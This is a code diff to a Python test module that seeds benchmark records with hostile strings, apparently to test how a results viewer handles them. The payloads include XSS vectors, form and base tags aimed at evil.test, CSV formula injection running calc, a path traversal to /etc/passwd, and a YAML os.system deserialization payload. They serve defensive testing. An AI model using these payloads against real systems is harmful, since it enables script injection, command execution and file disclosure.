@@ -15,7 +15,6 @@ from evaluator.formats.record import (
     DetailedResults,
     Earlier,
     Reason,
-    Record,
     Step,
     to_json,
 )
@@ -31,7 +30,7 @@ TEXTS = {
     "image": f'"\'><img data-owned src=x onerror="{RUN}">',
     "svg": f"<svg data-owned onload={RUN}><animate onbegin={RUN}>",
     "details-open": f"<details data-owned open ontoggle={RUN}>x",
-    "style": "<style data-owned>*{display:none!important}</style><link data-owned href=//evil.test>",
+    "style": "<style data-owned>*{display:none!important}</style><link data-owned href=//x.test>",
     "frame": f'<iframe data-owned srcdoc="<script>top.{RUN}</script>">',
     "form": "<form data-owned action=//evil.test><button autofocus>send</button>",
     "base": "<base data-owned href=//evil.test/><meta data-owned http-equiv=refresh content=0>",
@@ -67,7 +66,7 @@ TEXTS = {
     "number": "1e308",
     "formula": "=cmd|' /C calc'!A0",
     "formula-at": '@SUM(1+1)*cmd|" /C calc"!A0',
-    "markdown": f"[x](javascript:{RUN}) ![x](//evil.test/x.png) <b data-owned>*x*</b> `x` # x\n---\n",
+    "markdown": f"[x](javascript:{RUN}) ![x](//x.test/x) <b data-owned>*x*</b> `x` # x\n---\n",
     "homoglyph": "\u0430lice \u2215 p\u0430ypal",
     "path": "../../../../etc/passwd%00 ..\\..\\ file:///etc/passwd",
     "yaml": "a: b\n- !!python/object/apply:os.system ['x']\n&a *a | > ---",
@@ -155,7 +154,6 @@ def _benchmark(repository: Repository) -> None:
         "\npullbench:\n  reported: true\n  questions: {page: {type: url}}\n"
         "  analysis: {}\n",
     )
-    text = text.replace("tasks: [0, 1]", "tasks: [0, 1]")
     repository.write(BENCHMARK, text + dump_yaml({"fact_sheet": sheet}).decode())
 
 
@@ -200,9 +198,6 @@ def _write(repository: Repository, cell: Cell) -> None:
                  exit_code=0, gpus=[text[:80]], log=text * 3)
             for step in ("ingestion", "scoring")
         ],
-        "provenance": record.provenance.__class__(
-            **{name: getattr(record.provenance, name) for name in record.provenance.__struct_fields__}
-        ),
     }  # fmt: skip
     if place % 4 == 3 and cell.id.task == "two":
         error = CellError(
@@ -217,11 +212,7 @@ def _write(repository: Repository, cell: Cell) -> None:
         ]  # fmt: skip
     if cell.benchmark.name == "adding" and cell.id.task == "one":
         changes["detailed_results"] = _details(repository, cell, text)
-    repository.write(cell.id.record_path, to_json(_changed(record, changes)))
-
-
-def _changed(record: Record, changes: dict[str, Any]) -> Record:
-    return record.model_copy(update=changes)
+    repository.write(cell.id.record_path, to_json(record.model_copy(update=changes)))
 
 
 def _details(repository: Repository, cell: Cell, text: str) -> DetailedResults:
